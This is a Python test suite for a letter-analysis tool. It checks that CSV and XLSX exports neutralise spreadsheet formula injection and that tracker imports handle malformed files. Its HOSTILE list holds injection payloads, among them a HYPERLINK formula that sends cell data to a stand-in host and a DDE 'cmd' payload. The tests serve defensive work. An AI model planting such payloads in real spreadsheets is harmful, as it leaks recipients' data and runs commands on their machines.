"""Spreadsheet safety (#17): every CSV lettermine writes opens as data, never as formulas; and
tracker CSVs are read the way spreadsheets really save them."""

from __future__ import annotations

import csv
import io
import re
import sqlite3
from pathlib import Path

import pytest
from bad_files import LETTER_TEXT
from hostile import trackers
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.main import get_command
from typer.testing import CliRunner

from lettermine.cli import app
from lettermine.db import open_db
from lettermine.errors import InvalidInput
from lettermine.ingest import Classifier, ingest_file
from lettermine.spreadsheet import (
    FORMULA_STARTS,
    csv_cell,
    read_csv,
    safe_cell,
    unescape_cell,
    write_csv,
)

# What spreadsheets take for a formula, and what OWASP says no cell may begin with.
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
HOSTILE = [
    '=HYPERLINK("http://x/?"&A1,"x")',
    "+44 1234 567890",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "x;=1+1",
    "x,=1+1",
    "\uff1dcmd|' /C calc'!A0",
    "'=already quoted",
    "=cmd|' /C calc'!A0\n=second line",
]


def _safe(cell: str) -> bool:
    return not cell.startswith(DANGEROUS) or bool(PLAIN_NUMBER.fullmatch(cell))


def _csv_commands() -> list[list[str]]:
    """Every command that has a --csv option: the test covers new ones without being told."""
    found: list[list[str]] = []

    def walk(cmd: object, path: list[str]) -> None:
        subs = getattr(cmd, "commands", None)
        if subs:
            for name, sub in subs.items():
                walk(sub, [*path, name])
        elif any("--csv" in getattr(p, "opts", []) for p in getattr(cmd, "params", [])):
            found.append(path)

    walk(get_command(app), [])
    return found


SAMPLE = (
    Path(__file__).resolve().parents[1]
    / "letters"
    / ("north-east-lincolnshire-2021-06-focused-visit.txt")
)


@pytest.fixture
def hostile_db(db_path: Path, tmp_path: Path) -> Path:
    """A database whose letters' text, titles, owners, notes and refs all start formulas: the
    sample letter and a copy of it about another council (for `peers`)."""
    text = (
        SAMPLE.read_text(encoding="utf-8")
        .replace(
            "the sufficiency and stability",
            '=HYPERLINK("http://x/?"&A1,"x") the sufficiency;=1+1 and stability',
        )
        .replace(
            "North East Lincolnshire had relatively", "@SUM(1) -2+3 North East Lincolnshire had"
        )
    )
    conn = open_db(db_path).conn
    for name, body in (
        ("letter.txt", text),
        ("other.txt", text.replace("North East Lincolnshire", "Otherton")),
    ):
        letter = tmp_path / name
        letter.write_text(body, encoding="utf-8")
        ingest_file(conn, letter, Classifier(enabled=False))  # fmt: skip
    runner = CliRunner()
    for i, hostile in enumerate(HOSTILE):
        result = runner.invoke(
            app,
            ["actions", "add", "--for", "1:1", "--title", hostile, "--owner", HOSTILE[-1 - i],
             "--ref", f"{hostile[:6]}{i}", "--due", "2022-03-31", "--date", "2021-07-01",
             "--description", hostile],
        )  # fmt: skip
        assert result.exit_code == 0, result.output
        result = runner.invoke(
            app, ["actions", "update", str(i + 1), "--note", hostile, "--evidence", hostile,
                  "--date", "2021-08-01"],
        )  # fmt: skip
        assert result.exit_code == 0, result.output
    return db_path


def test_every_command_with_csv_output_is_known() -> None:
    assert sorted(_csv_commands()) == [
        ["actions", "export"], ["actions", "list"], ["peers"], ["search"]
    ]  # fmt: skip


@pytest.mark.parametrize("command", _csv_commands(), ids=" ".join)
def test_no_csv_cell_begins_a_formula(hostile_db: Path, command: list[str]) -> None:
    args = {"search": ["search", "sufficiency"], "peers": ["peers", "1:1"]}.get(command[0], command)
    result = CliRunner().invoke(app, [*args, "--csv"])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout)))
    cells = [cell for row in rows[1:] for cell in row]
    assert len(rows) > 1 and cells
    assert [c for c in cells if not _safe(c)] == []
    # The hostile values are there, readable, behind an apostrophe.
    assert any(c.startswith("'=HYPERLINK") or "'=HYPERLINK" in c for c in cells)


@pytest.mark.parametrize("command", _csv_commands(), ids=" ".join)
def test_no_cell_begins_a_formula_for_a_reader_with_another_separator(
    hostile_db: Path, command: list[str]
) -> None:
    # Excel in a ';' locale splits a comma file at every ';', inside quotes or not, and a reader
    # may end a record at a line break inside quotes: no piece it could make starts a formula.
    args = {"search": ["search", "sufficiency"], "peers": ["peers", "1:1"]}.get(command[0], command)
    out = CliRunner().invoke(app, [*args, "--csv"]).stdout
    assert ";" in out
    pieces = [p for line in out.splitlines() for p in line.split(";")]
    assert [p for p in pieces if not (_safe(p) and _safe(p.lstrip('"')))] == []


def test_exported_tracker_imports_as_it_was(hostile_db: Path, tmp_path: Path) -> None:
    runner = CliRunner()
    path = tmp_path / "tracker.csv"
    path.write_text(runner.invoke(app, ["actions", "export", "--csv"]).stdout, encoding="utf-8")
    second = tmp_path / "second.db"
    conn = _second_db_with_the_letters(hostile_db, second)
    result = runner.invoke(app, ["actions", "import", str(path), "--db", str(second)])
    assert result.exit_code == 0, result.output
    columns = "SELECT ref, title, owner, description FROM actions ORDER BY id"
    before = sqlite3.connect(hostile_db).execute(columns).fetchall()
    assert conn.execute(columns).fetchall() == before


def _second_db_with_the_letters(first: Path, second: Path) -> sqlite3.Connection:
    """A second database holding the same letters, so that unit ids name the same units."""
    conn = open_db(second).conn
    conn.execute("ATTACH DATABASE ? AS first", [str(first)])
    for table in ("letters", "units"):
        conn.execute(f"INSERT INTO {table} SELECT * FROM first.{table}")
    conn.commit()
    conn.execute("DETACH DATABASE first")
    return conn


def test_no_xlsx_cell_begins_a_formula_and_the_workbook_restores_exactly(
    hostile_db: Path, tmp_path: Path
) -> None:
    import openpyxl

    book = tmp_path / "tracker.xlsx"
    runner = CliRunner()
    result = runner.invoke(app, ["actions", "export", "--xlsx", str(book)])
    assert result.exit_code == 0, result.output
    workbook = openpyxl.load_workbook(book)
    cells = [c for ws in workbook.worksheets for row in ws.iter_rows(min_row=2) for c in row]
    text = [c.value for c in cells if isinstance(c.value, str)]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert [t for t in text if not _safe(t)] == []
    assert '\'=HYPERLINK("http://x/?"&A1,"x")' in text  # readable, behind an apostrophe
    conn = _second_db_with_the_letters(hostile_db, tmp_path / "second.db")
    result = runner.invoke(
        app, ["actions", "import", str(book), "--db", str(tmp_path / "second.db")]
    )
    assert result.exit_code == 0, result.output
    for table in ("actions", "action_history", "action_units"):
        query = f"SELECT * FROM {table} ORDER BY 1, 2"
        before = sqlite3.connect(hostile_db).execute(query).fetchall()
        assert before and conn.execute(query).fetchall() == before, table


@pytest.mark.parametrize("value", HOSTILE)
def test_safe_cell_guards_and_unescape_restores(value: str) -> None:
    cell = csv_cell(value)
    assert not cell.startswith(DANGEROUS)
    assert unescape_cell(cell) == value.replace("\r\n", "\n").replace("\r", "\n")


@given(st.text(alphabet=st.characters(exclude_categories=("Cs", "Cc")) | st.sampled_from(
    ["=", "+", "-", "@", "'", " ", "\n", "\t", "1", "."])))  # fmt: skip
@settings(max_examples=400)
def test_csv_cell_is_safe_and_reversible(text: str) -> None:
    cell = csv_cell(text)
    assert _safe(cell)
    assert unescape_cell(cell) == text


def test_safe_cell_keeps_numbers_dates_and_none() -> None:
    import datetime as dt

    assert safe_cell(None) is None
    assert safe_cell(-5) == -5
    assert safe_cell(2.5) == 2.5
    assert safe_cell(float("inf")) is None
    assert safe_cell(dt.date(2022, 3, 31)) == dt.date(2022, 3, 31)
    assert safe_cell("=1+1") == "'=1+1"
    assert safe_cell(["=a", "b"]) == "'=a; b"
    assert safe_cell("bell\x07 and \x1b[2J") == "bell\\x07 and \\x1b[2J"
    assert set(FORMULA_STARTS) >= set(DANGEROUS)


def test_write_csv_quotes_what_could_split_a_cell() -> None:
    out = io.StringIO()
    write_csv(out, ["a", "b"], [["x;y", 'say "hi"'], ["plain", -3], [None, "line\r\nbreak"]])
    assert out.getvalue() == 'a,b\n"x;y","say ""hi"""\nplain,-3\n,"line\nbreak"\n'


# -- reading what spreadsheets save -------------------------------------------------------------


@pytest.fixture
def letter_db(db_path: Path, tmp_path: Path) -> Path:
    letter = tmp_path / "letter.txt"
    letter.write_text(LETTER_TEXT, encoding="utf-8")
    ingest_file(open_db(db_path).conn, letter, Classifier(enabled=False))
    return db_path


@pytest.mark.parametrize(
    ("what", "name", "data", "created"), trackers(), ids=[t[0] for t in trackers()]
)
def test_tracker_import_reads_or_refuses_clearly(
    letter_db: Path, tmp_path: Path, what: str, name: str, data: bytes, created: int
) -> None:
    path = tmp_path / name
    path.write_bytes(data)
    before = sqlite3.connect(letter_db).execute("SELECT count(*) FROM action_history").fetchone()
    result = CliRunner().invoke(app, ["actions", "import", str(path)])
    assert (
        "Traceback" not in result.output
        and result.exception is None
        or isinstance(result.exception, SystemExit)
    )
    count = sqlite3.connect(letter_db).execute("SELECT count(*) FROM actions").fetchone()[0]
    if created < 0:
        assert result.exit_code == 1, result.output
        errors = [x for x in result.stderr.splitlines() if x.startswith("Error:")]
        assert len(errors) == 1 and errors[0].startswith(f"Error: {name}: ")
        assert count == 0
        after = sqlite3.connect(letter_db).execute("SELECT count(*) FROM action_history")
        assert after.fetchone() == before
    else:
        assert result.exit_code == 0, result.output
        assert count == created


def test_a_semicolon_tracker_keeps_its_values(letter_db: Path, tmp_path: Path) -> None:
    path = tmp_path / "semi.csv"
    path.write_bytes({t[1]: t[2] for t in trackers()}["semi.csv"])
    assert CliRunner().invoke(app, ["actions", "import", str(path)]).exit_code == 0
    rows = sqlite3.connect(letter_db).execute(
        "SELECT ref, title, owner, status, percent, due FROM actions ORDER BY id"
    )
    assert rows.fetchall() == [
        ("T1", "Reduce caseloads to 25", "Head of Service", "in_progress", 40, "2022-03-31"),
        ("T2", "Audit supervision", "Principal Social Worker", "not_started", 0, "2022-06-30"),
    ]


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ('title,owner\n"never closed,x\n', "never closed"),
        ("title,owner\na,b,c\n", "has 3 cells but the header 2"),
        ('title,owner\n"a"b,c\n', "a quote in the middle"),
        ("title,owner\n" + "x" * 140_000 + ",b\n", "longer than 131,072 characters"),
    ],
)
def test_read_csv_names_the_row_it_cannot_read(tmp_path: Path, text: str, message: str) -> None:
    path = tmp_path / "t.csv"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(InvalidInput, match=message) as caught:
        read_csv(path, ["title", "owner"])
    assert "row 2" in str(caught.value)


def test_read_csv_numbers_rows_as_the_spreadsheet_does(tmp_path: Path) -> None:
    path = tmp_path / "t.csv"
    path.write_text('title,owner\n\nfirst,"two\nlines"\nsecond,b\n', encoding="utf-8")
    keys, rows = read_csv(path, ["title", "owner"])
    assert keys == ["title", "owner"]
    assert [n for n, _ in rows] == [3, 4]
    assert rows[0][1] == {"title": "first", "owner": "two\nlines"}
